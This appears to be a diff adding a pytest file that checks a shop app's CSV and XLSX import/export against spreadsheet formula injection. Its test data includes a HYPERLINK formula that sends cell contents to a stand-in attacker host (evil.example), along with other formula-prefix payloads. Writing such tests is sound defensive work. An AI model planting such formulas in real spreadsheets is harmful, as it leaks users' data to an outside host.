@@ -1,0 +1,70 @@
+"""Spreadsheet files that try to harm or confuse (issue 13, "Bad input"): formulas, numbers out of range, mixed
+encodings. Each problem gets a clear answer naming line and column; nothing is imported half-way."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import pytest
+from openpyxl import Workbook
+
+from customer_support import add_brand, add_customer, write_csv
+from lookbook.catalog import import_catalog
+from lookbook.customer_csv import export_customers, import_customers
+from lookbook.purchase_import import import_purchases
+from lookbook.store import Store
+from lookbook.tabular import neutralise_cell, neutralised_row, restore_cell
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(1)", "\tTabbed", "\rReturn",
+            "=1+1", "'=already quoted", "''-two quotes"]
+
+
+# -- formula injection -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", [*FORMULAS, "O'Brien", "'", "plain", "", "Zoë"])
+def test_neutralise_then_restore_gives_the_value_back(value: str) -> None:
+    exported = neutralise_cell(value)
+    assert restore_cell(str(exported)) == value
+    assert str(exported)[:1] not in "=+-@\t\r" or value == ""
+
+
+def test_numbers_stay_numbers_in_numeric_columns() -> None:
+    assert neutralised_row(["-2", "-12.50", "+3", "-2", 7, -1.5], numeric={0, 1, 2, 4, 5}) == [
+        "-2", "-12.50", "+3", "'-2", 7, -1.5]
+    assert neutralise_cell("-2 + 3", numeric=True) == "'-2 + 3"  # not a plain number: text, neutralised
+
+
+def test_customer_export_neutralises_formulas_and_import_reads_them_back(store: Store, tmp_path: Path) -> None:
+    for i, value in enumerate(FORMULAS):
+        add_customer(store, value.strip() or "x", last_name=value, notes=value, email=f"c{i}@example.com")
+    path = tmp_path / "export.csv"
+    assert export_customers(store, path, actor="t") == len(FORMULAS)
+    with path.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    for row in rows:
+        for column in ("first_name", "last_name", "notes"):
+            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, row[column])
+    assert rows[0]["last_name"] == "'" + FORMULAS[0] and rows[7]["notes"] == "''=already quoted"
+    # Read back over the same book: every value stays as it was.
+    want = store.db.execute("SELECT first_name, last_name, notes FROM customers ORDER BY id").fetchall()
+    report = import_customers(store, path, actor="t")
+    assert (report.updated, report.rejected) == (len(FORMULAS), 0)
+    assert store.db.execute("SELECT first_name, last_name, notes FROM customers ORDER BY id").fetchall() == want
+
+
+def test_catalog_import_reads_neutralised_cells_back_from_csv_and_xlsx(store: Store, tmp_path: Path) -> None:
+    csv_path = write_csv(tmp_path / "c.csv", "sku,brand,name,category,size,qty,price\n"
+                                             "A1,Acme,'=Shirt,shirt,M,3,\n"
+                                             "A2,Acme,'Quoted,shirt,M,4,10\n")
+    report = import_catalog(store, csv_path, actor="t")
+    assert report.rows_kept == 2, report.problems
+    names = [r[0] for r in store.db.execute("SELECT name FROM products ORDER BY sku")]
+    assert names == ["=Shirt", "'Quoted"]
+    book = Workbook()
+    book.active.append(["sku", "brand", "name", "category", "size", "qty"])
+    book.active.append(["A3", "Acme", "'@Dress", "dress", "S", 1])
+    book.save(tmp_path / "c.xlsx")
+    assert import_catalog(store, tmp_path / "c.xlsx", actor="t").rows_kept == 1
+    assert store.db.execute("SELECT name FROM products WHERE sku = 'A3'").fetchone()[0] == "@Dress"
